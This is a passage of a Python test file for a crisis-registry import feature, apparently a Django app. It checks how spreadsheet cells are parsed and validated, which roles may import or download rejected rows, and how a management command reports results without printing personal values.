        ({"given_name": "A", "birth_date": "06/1985"}, {"birth_year": 1985, "birth_month": 6, "birth_day": None}),
        ({"given_name": "A", "birth_date": "1985-06"}, {"birth_year": 1985, "birth_month": 6, "birth_day": None}),
        ({"given_name": "A", "birth_date": "1985"}, {"birth_year": 1985, "birth_month": None}),
        ({"given_name": "A", "citizenships": "Україна, Израиль"}, {"citizenships": ("UA", "IL")}),
        ({"given_name": "A", "citizenships": "ISR; ukr"}, {"citizenships": ("IL", "UA")}),
        ({"given_name": "A", "citizenships": "אוקראינה"}, {"citizenships": ("UA",)}),
        ({"given_name": "A", "region": "Lvivska oblast"}, {"region": "UA-46"}),
        ({"given_name": "A", "region": "ua-46"}, {"region": "UA-46"}),
        ({"given_name": "A", "intent": "Уехать"}, {"intent": "leave"}),
        ({"given_name": "A", "intent": "залишитися"}, {"intent": "stay"}),
        ({"given_name": "A", "intent": "not sure"}, {"intent": "undecided"}),
        ({"given_name": " Olena\u200f  Koval "}, {"given_name": "Olena Koval"}),
        ({"family_name": "Koval"}, {"given_name": "", "family_name": "Koval"}),
    ],
)
def test_cells_are_read_as_people_write_them(cells, expected):
    person = person_row_parse(cells, today=date(2022, 2, 24))

    assert {name: getattr(person, name) for name in expected} == expected


@pytest.mark.parametrize(
    ("cells", "errors"),
    [
        ({"given_name": "A", "birth_date": "29.02.1985"}, {"birth_date": [E.DATE_INVALID]}),
        ({"given_name": "A", "birth_date": "13/1985"}, {"birth_date": [E.DATE_INVALID]}),
        ({"given_name": "A", "birth_date": "1850"}, {"birth_date": [E.DATE_TOO_EARLY]}),
        ({"given_name": "A", "birth_date": "01.03.2022"}, {"birth_date": [E.DATE_IN_FUTURE]}),
        ({"given_name": "A", "birth_date": "85"}, {"birth_date": [E.NOT_A_DATE]}),
        ({"given_name": "A" * 201}, {"given_name": [E.TOO_LONG]}),
        ({"given_name": "A", "passport_number": "X" * 41}, {"passport_number": [E.TOO_LONG]}),
        ({"given_name": "", "family_name": "\u200b"}, {"given_name": [E.NAME_EMPTY]}),
        ({"given_name": "A", "email": "a@b"}, {"email": [E.EMAIL_INVALID]}),
        ({"given_name": "A", "citizenships": "UA, Narnia"}, {"citizenships": [E.COUNTRY_UNKNOWN]}),
    ],
)
def test_cells_that_are_refused_and_why(cells, errors):
    from crisisdesk.registry.imports import PersonRowInvalid

    with pytest.raises(PersonRowInvalid) as invalid:
        person_row_parse(cells, today=date(2022, 2, 24))

    assert invalid.value.errors == {field: [code.value for code in codes] for field, codes in errors.items()}


def test_every_field_error_has_a_message():
    assert set(IMPORT_FIELD_MESSAGES) == set(ImportFieldError)


# --- who may import ------------------------------------------------------------------------------

MAY_CREATE = ["admin", "desk_chief", "consul", "border_officer"]
MAY_NOT = ["case_officer", "logistics_officer", "diplomat", "senior_diplomat", "political_director"]


@pytest.mark.parametrize("persona", MAY_CREATE)
def test_those_who_create_persons_may_import(users, persona):
    rows, _expected = broken_rows()

    result = _import(users[persona], csv_bytes(rows))

    assert result.rows_imported == 5
    assert Person.objects.filter(created_by=users[persona]).count() == 5


@pytest.mark.parametrize("persona", MAY_NOT)
def test_others_may_not_import_correct_or_download_rows(users, consul, persona):
    rows, _expected = broken_rows()
    content = csv_bytes(rows)
    batch = _import(consul, content).batch
    row = batch.rejected_rows.get(row_number=6)
    before = _counts()

    with pytest.raises(PermissionDenied):
        _import(users[persona], content + b"\n")
    with pytest.raises(PermissionDenied):
        _import(users[persona], content + b"\n", dry_run=True)
    with pytest.raises(PermissionDenied):
        import_row_correct(actor=users[persona], origin=SYSTEM, row=row, values={"phone": "+380931112233"})
    with pytest.raises(PermissionDenied):
        import_rejected_csv(actor=users[persona], origin=SYSTEM, batch=batch)
    with pytest.raises(PermissionDenied):
        column_mapping_save(actor=users[persona], origin=SYSTEM, name="Mine", columns={})

    assert _counts() == before


def test_the_errors_file_holds_contacts_so_a_border_officer_gets_only_their_own(users):
    """Border officers create persons but do not see contact details: they may download the
    rejected rows of a file they imported themselves (they had it), not of another's."""
    rows, _expected = broken_rows()
    theirs = _import(users["border_officer"], csv_bytes(rows)).batch
    others = _import(users["consul"], csv_bytes(rows) + b"\n").batch

    assert import_rejected_csv(actor=users["border_officer"], origin=SYSTEM, batch=theirs)
    with pytest.raises(PermissionDenied):
        import_rejected_csv(actor=users["border_officer"], origin=SYSTEM, batch=others)
    assert import_rejected_csv(actor=users["desk_chief"], origin=SYSTEM, batch=theirs)


# --- manage.py registry_import ---------------------------------------------------------------------


@pytest.fixture
def broken_file(tmp_path):
    rows, _expected = broken_rows()
    path = tmp_path / "persons.csv"
    path.write_bytes(csv_bytes(rows, delimiter=";"))
    return path


def _command(*args) -> str:
    out = io.StringIO()
    call_command("registry_import", *[str(arg) for arg in args], stdout=out)
    return out.getvalue()


def test_the_command_imports_and_prints_counts_and_reasons_without_personal_values(users, broken_file):
    output = _command(broken_file, "--as", "consul")

    assert Person.objects.count() == 5
    batch = ImportBatch.objects.get()
    lines = [" ".join(line.split()) for line in output.splitlines()]
    assert "File persons.csv (CSV, utf-8, semicolon-separated)" in lines
    assert "Rows 13" in lines
    assert "Imported 5" in lines
    assert "Rejected 8" in lines
    assert "Skipped (already imported) 0" in lines
    assert f"Import batch {batch.pk}" in lines
    assert "Rejected rows (the first 8 of 8):" in lines
    assert f"4 birth_date date_invalid: {IMPORT_FIELD_MESSAGES[E.DATE_INVALID]}" in lines
    assert f"12 phone phone_invalid: {IMPORT_FIELD_MESSAGES[E.PHONE_INVALID]}" in lines
    assert sum(line.startswith("12 ") for line in lines) == 5  # every error of the row
    for personal in ("Олена", "Дмитро", "Petrenko", "12345", "31.02.1990", "olena@", "Atlantis", "HYPERLINK"):
        assert personal not in output
    audit = AuditEvent.objects.get(action=AuditEvent.Action.PERSONS_IMPORTED)
    assert (audit.actor, audit.channel) == (users["consul"], "cli")


def test_the_command_dry_run_writes_nothing(users, broken_file):
    before = _counts()

    output = _command(broken_file, "--as", "desk_chief", "--dry-run")

    assert _counts() == before
    assert output.splitlines()[0] == "Dry run: nothing was written."
    lines = [" ".join(line.split()) for line in output.splitlines()]
    assert "Would import 5" in lines and "Rejected 8" in lines
    assert not any(line.startswith("Import batch") for line in lines)


def test_the_command_with_a_saved_mapping(users, tmp_path):
    column_mapping_save(actor=users["consul"], origin=SYSTEM, name="Google Form 2022", columns=GOOGLE_COLUMNS)
    path = tmp_path / "form.xlsx"
    path.write_bytes(xlsx_bytes(GOOGLE_FORM))

    output = _command(path, "--as", "consul", "--mapping", "Google Form 2022")

    lines = [" ".join(line.split()) for line in output.splitlines()]
    assert "Mapping Google Form 2022" in lines and "Imported 2" in lines
    assert "Columns not imported Timestamp" in lines
    assert "File form.xlsx (XLSX)" in lines


def test_the_command_exits_with_status_1_when_the_file_is_refused(users, broken_file):
    _command(broken_file, "--as", "consul")
    persons = Person.objects.count()

    with pytest.raises(CommandError) as refused:
        _command(broken_file, "--as", "consul")

    assert refused.value.returncode == 1
    assert str(IMPORT_FIELD_MESSAGES[E.PHONE_INVALID]) not in str(refused.value)
    assert "already been imported" in str(refused.value)
    assert Person.objects.count() == persons


@pytest.mark.parametrize(
    ("args", "says"),
    [
        ([], "--as USERNAME"),
        (["--as", "nobody"], "No active user 'nobody'"),
        (["--as", "diplomat"], "may not create persons"),
        (["--as", "consul", "--mapping", "Nope"], "No saved mapping 'Nope'"),
    ],
)
def test_the_command_refuses_without_an_allowed_user_or_a_known_mapping(users, broken_file, args, says):
    with pytest.raises(CommandError) as refused:
        _command(broken_file, *args)

    assert says in str(refused.value)
    assert refused.value.returncode == 1
    assert Person.objects.count() == 0


def test_the_command_refuses_a_missing_or_unreadable_file(users, tmp_path):
    with pytest.raises(CommandError) as missing:
        _command(tmp_path / "nope.csv", "--as", "consul")
    assert "nope.csv" in str(missing.value)

    garbage = tmp_path / "photo.csv"
    garbage.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    with pytest.raises(CommandError) as unreadable:
        _command(garbage, "--as", "consul")
    assert "could not be read as CSV or XLSX" in str(unreadable.value)
